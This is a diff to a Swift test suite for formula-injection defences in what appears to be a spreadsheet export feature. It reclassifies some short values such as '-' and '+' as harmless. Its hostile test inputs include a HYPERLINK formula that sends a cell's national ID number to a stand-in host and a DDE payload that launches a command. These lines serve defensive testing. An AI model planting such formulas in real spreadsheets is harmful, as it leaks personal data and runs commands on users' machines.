@@ -8,8 +8,8 @@ import ZIPFoundation
 /// spreadsheet, must never run as a formula (`=HYPERLINK(…)` sent another row's NIK to an outside address).
 @Suite struct FormulaInjectionTests {
     static let hyperlink = #"=HYPERLINK("http://evil.example/?"&C2,"klik")"#
-    static let hostile = [hyperlink, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1", "=1", "-", "+62 812-3456"]
-    static let harmless = ["-5", "-8.58", "-8,58", "+6281234567", "1.234,5", "-1e5", "Jl. Raya - Gang 3", "a=b", "5203014508920001", ""]
+    static let hostile = [hyperlink, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1", "=1", "+62 812-3456"]
+    static let harmless = ["-5", "-8.58", "-8,58", "+6281234567", "1.234,5", "-1e5", "Jl. Raya - Gang 3", "a=b", "5203014508920001", "", "-", "--", "+"]
 
     @Test func formula_leading_text_gets_a_quote_and_numbers_stay_numbers() {
         for text in Self.hostile {
